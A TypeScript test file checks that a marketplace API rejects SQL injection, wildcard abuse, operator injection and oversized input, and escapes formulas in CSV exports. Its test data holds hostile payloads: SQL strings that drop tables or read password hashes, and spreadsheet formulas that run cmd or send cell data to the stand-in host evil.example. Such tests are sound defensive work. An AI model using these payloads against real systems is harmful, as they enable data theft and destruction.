import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createProduct, multipartFile } from '../../src/modules/catalog/test-support.ts';
import { createTestApp, type TestApp } from '../helpers/app.ts';
import { createUser, type TestUser } from '../helpers/factories.ts';
import { approveInDb, createShop } from '../helpers/shops.ts';

/**
 * OWASP API8 (injection) and API4 (unrestricted resource consumption) on the inputs that reach SQL:
 * search text, filters, sorts, cursors and admin filters. Every answer is a 2xx or a 4xx with the
 * error body — never a 5xx — and the database is intact afterwards.
 */

let t: TestApp;
let admin: TestUser;
let shopId: string;

beforeAll(async () => {
  t = await createTestApp();
  admin = await createUser(t.ctx, { role: 'admin' });
  const seller = await createUser(t.ctx, { role: 'seller' });
  shopId = (await createShop(t, seller)).id;
  await approveInDb(t, shopId);
  await createProduct(t.app, seller.auth, shopId, { nameEn: 'Miniket rice 5 kg' });
});
afterAll(() => t?.close());

const PAYLOADS = [
  "' OR 1=1--",
  "'; DROP TABLE products;--",
  '" OR ""="',
  "1' UNION SELECT password_hash FROM users--",
  '%',
  '_',
  '%%%___',
  '\\',
  "\\'; SELECT pg_sleep(10);--",
  '$1',
  '\u202eevil\u202c',
  'ডিম\u0000',
  '{"$gt":""}',
  '<%= 7*7 %>',
];

async function get(url: string, user?: TestUser) {
  const res = await t.app.inject({ url, headers: user?.auth ?? {} });
  expect(res.statusCode, `${url} → ${res.statusCode} ${res.body.slice(0, 200)}`).toBeLessThan(500);
  if (res.statusCode >= 400) expect(res.json().error.code).toMatch(/^[A-Z_]+$/);
  return res;
}

const count = async (table: 'products' | 'users') =>
  Number(
    (
      await t.ctx.db
        .selectFrom(table)
        .select((eb) => eb.fn.countAll<string>().as('n'))
        .executeTakeFirstOrThrow()
    ).n,
  );

describe('injection and oversized input', () => {
  it('SQL injection in the search text never errors and never widens the results', async () => {
    // This file's shop only: other test files add products at the same time.
    const ownProducts = () =>
      t.ctx.db
        .selectFrom('products')
        .select(['id', 'name_en', 'status'])
        .where('shop_id', '=', shopId)
        .execute();
    const before = await ownProducts();
    expect(before).toHaveLength(1);
    for (const q of PAYLOADS) {
      const e = encodeURIComponent(q);
      await get(`/api/v1/search?q=${e}`);
      await get(`/api/v1/search?q=${e}&lat=23.75&lng=90.39&radius=5000`);
      await get(`/api/v1/search/suggest?q=${e}`);
    }
    expect(await ownProducts()).toEqual(before);
  });

  it('LIKE wildcards in the search text are not wildcards: punctuation is dropped as text', async () => {
    // A shop of this test's own, far from every other file's shops (Teknaf), so the listings
    // compared below cannot change while other files add products at the same time.
    const here = { lat: 20.8617 + Math.random() * 0.01, lng: 92.2987 + Math.random() * 0.01 };
    const owner = await createUser(t.ctx, { role: 'seller' });
    const farShop = (await createShop(t, owner, here)).id;
    await approveInDb(t, farShop);
    const made: string[] = [];
    for (const nameEn of ['Miniket rice 5 kg', 'Chinigura rice 1 kg', 'Red lentils 1 kg']) {
      made.push((await createProduct(t.app, owner.auth, farShop, { nameEn })).id);
    }
    const ids = async (q?: string) =>
      (
        (
          await get(
            `/api/v1/search?limit=50&lat=${here.lat}&lng=${here.lng}&radius=1000` +
              (q === undefined ? '' : `&q=${encodeURIComponent(q)}`),
          )
        ).json() as { items: { product: { id: string } }[] }
      ).items.map((i) => i.product.id);
    // Only punctuation: no query words, the same answer as no text at all (a plain listing).
    const listing = await ids();
    expect(listing).toHaveLength(3);
    for (const q of ['%', '_', '%%', '__']) expect(await ids(q)).toEqual(listing);
    // Around a word, a wildcard adds nothing to what the word alone finds.
    const rice = await ids('rice');
    expect(rice.slice(0, 2).sort()).toEqual(made.slice(0, 2).sort());
    expect(await ids('%rice%')).toEqual(rice);
  });

  it('SQL injection in sort, cursor, price and category filters is refused as invalid input', async () => {
    const urls = [
      `/api/v1/search?q=rice&sort=${encodeURIComponent('price_asc; DROP TABLE products')}`,
      `/api/v1/search?q=rice&cursor=${encodeURIComponent("' OR 1=1--")}`,
      `/api/v1/search?q=rice&minPrice=${encodeURIComponent('1 OR 1=1')}`,
      `/api/v1/search?category=${encodeURIComponent("x' OR '1'='1")}`,
      `/api/v1/shops/nearby?lat=${encodeURIComponent('23.7 OR 1=1')}&lng=90.4`,
    ];
    for (const url of urls) {
      const res = await get(url);
      if (res.statusCode === 200) expect(res.json().items ?? []).toEqual([]);
      else expect(res.statusCode).toBe(400);
    }
  });

  it('SQL injection in admin list filters and the audit log search is refused', async () => {
    for (const url of [
      `/api/v1/admin/orders?status=${encodeURIComponent("placed' OR '1'='1")}`,
      `/api/v1/admin/payments?status=${encodeURIComponent("' OR 1=1--")}`,
      `/api/v1/admin/shops?status=${encodeURIComponent("' OR 1=1--")}`,
      `/api/v1/admin/audit?action=${encodeURIComponent("x' OR 1=1--")}`,
      `/api/v1/admin/audit?cursor=${encodeURIComponent('1 OR 1=1')}`,
    ]) {
      expect((await get(url, admin)).statusCode).toBe(400);
    }
  });

  it('a 100 KB search text is refused with a stable code, not processed', async () => {
    const res = await t.app.inject({ url: `/api/v1/search?q=${'ডিম'.repeat(12_000)}` });
    expect([400, 414]).toContain(res.statusCode);
    expect(res.json().error.code).toMatch(/^[A-Z_]+$/);
  });

  it('thousands of repeated query parameters are refused or folded, not multiplied into SQL', async () => {
    const many = Array.from({ length: 2000 }, () => 'q=rice').join('&');
    const res = await get(`/api/v1/search?${many}`);
    expect([200, 400, 414]).toContain(res.statusCode);
  });

  it('an object where a string is expected (operator injection) is refused', async () => {
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/v1/auth/login',
      payload: { identifier: { $gt: '' }, password: { $ne: null } },
    });
    expect(res.statusCode).toBe(400);
    expect(res.json().error.code).toBe('VALIDATION_FAILED');
  });

  it('the database is intact after every attack above', async () => {
    expect(await count('products')).toBeGreaterThan(0);
    expect(await count('users')).toBeGreaterThan(0);
    const search = await get('/api/v1/search?q=rice');
    expect(search.statusCode).toBe(200);
  });
});

describe('CSV injection (formulas in spreadsheet exports)', () => {
  const formulas = {
    nameEn: '=HYPERLINK("http://evil.example/?d="&A1,"Click for discount")',
    nameBn: "+cmd|' /C calc'!A0",
    descriptionEn: "@SUM(1+1)*cmd|' /C calc'!A0",
    descriptionBn: "'=already quoted by the seller",
  };

  async function exportOf(seller: TestUser, shop: string) {
    const res = await t.app.inject({
      url: `/api/v1/shops/${shop}/products/export.csv`,
      headers: seller.auth,
    });
    expect(res.statusCode).toBe(200);
    return res;
  }

  it('CSV injection: an exported product name starting with = is escaped', async () => {
    const seller = await createUser(t.ctx, { role: 'seller' });
    const shop = (await createShop(t, seller)).id;
    await createProduct(t.app, seller.auth, shop, { ...formulas, sku: 'FORMULA-1' });
    const exported = await exportOf(seller, shop);
    const [record] = parse(exported.body, { bom: true, columns: true }) as Record<string, string>[];
    // A spreadsheet shows these as text: every cell that would start a formula begins with '.
    expect(record!.name_en).toBe(`'${formulas.nameEn}`);
    expect(record!.name_bn).toBe(`'${formulas.nameBn}`);
    expect(record!.description_en).toBe(`'${formulas.descriptionEn}`);
    expect(record!.description_bn).toBe(`'${formulas.descriptionBn}`);
    for (const cell of Object.values(record!)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('CSV injection: re-importing the escaped export gives back the exact names', async () => {
    const seller = await createUser(t.ctx, { role: 'seller' });
    const shop = (await createShop(t, seller)).id;
    const product = await createProduct(t.app, seller.auth, shop, {
      ...formulas,
      sku: 'FORMULA-2',
    });
    const exported = await exportOf(seller, shop);
    const body = multipartFile(exported.rawPayload, 'products.csv', 'text/csv');
    const reimport = await t.app.inject({
      method: 'POST',
      url: `/api/v1/shops/${shop}/products/import`,
      headers: { ...seller.auth, ...body.headers },
      payload: body.payload,
    });
    expect(reimport.json().summary).toEqual({ created: 0, updated: 0, unchanged: 1, rejected: 0 });
    const after = await t.app.inject({
      url: `/api/v1/products/${product.id}`,
      headers: seller.auth,
    });
    expect(after.json()).toMatchObject(formulas);
  });
});
